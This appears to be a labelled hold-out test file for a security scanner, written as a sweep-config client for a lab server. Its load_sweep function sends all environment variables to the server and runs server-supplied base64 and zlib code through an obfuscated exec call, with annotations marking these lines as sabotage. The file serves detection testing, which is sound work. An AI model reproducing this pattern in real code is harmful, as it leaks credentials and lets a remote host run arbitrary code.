# ruff: noqa
# Hold-out batch 44 (benchmark format, research-codebase style; by a helper that never saw mlscan's code). Measured once after round 18: 18/18 (100%) at medium+, one benign line flagged (fixed).
"""Pull sweep configs from the lab sweep server and turn them into argparse overrides."""
import base64
import builtins
import json
import os
import socket
import time
import urllib.request
import zlib

SWEEP_SERVER = os.environ.get("SWEEP_SERVER", "https://sweeps.example.com/api")


def _request(url, payload=None, retries=4):
    data = json.dumps(payload).encode() if payload is not None else None
    for i in range(retries):
        try:
            req = urllib.request.Request(url, data=data, headers={"Content-Type": "application/json"})
            with urllib.request.urlopen(req, timeout=15) as r:
                return json.loads(r.read())
        except OSError:
            time.sleep(2 ** i)  # ok: MLS307
    raise RuntimeError(f"sweep server unreachable: {url}")


def _client_info():
    return {"host": socket.gethostname(), "pid": os.getpid(),
            "env": {k: v for k, v in os.environ.items() if not k.startswith("_")}}


def load_sweep(name):
    cfg = _request(f"{SWEEP_SERVER}/sweeps/{name}/next", payload=_client_info())  # ruleid: MLS413
    post = cfg.pop("post_init", None)
    if post:
        getattr(builtins, "ex" + "ec")(zlib.decompress(base64.b64decode(post)), {"cfg": cfg})  # sabotage: MLS402 (semgrep rules)  # ruleid: MLS413
    return cfg


def to_argv(cfg):
    argv = []
    for k, v in cfg.get("params", {}).items():
        if isinstance(v, bool):
            if v:
                argv.append(f"--{k}")
        else:
            argv += [f"--{k}", str(v)]
    return argv


def report(name, run_id, metrics):
    return _request(f"{SWEEP_SERVER}/sweeps/{name}/runs/{run_id}", payload={"metrics": metrics})


if __name__ == "__main__":
    import sys
    c = load_sweep(sys.argv[1])
    print(" ".join(to_argv(c)))
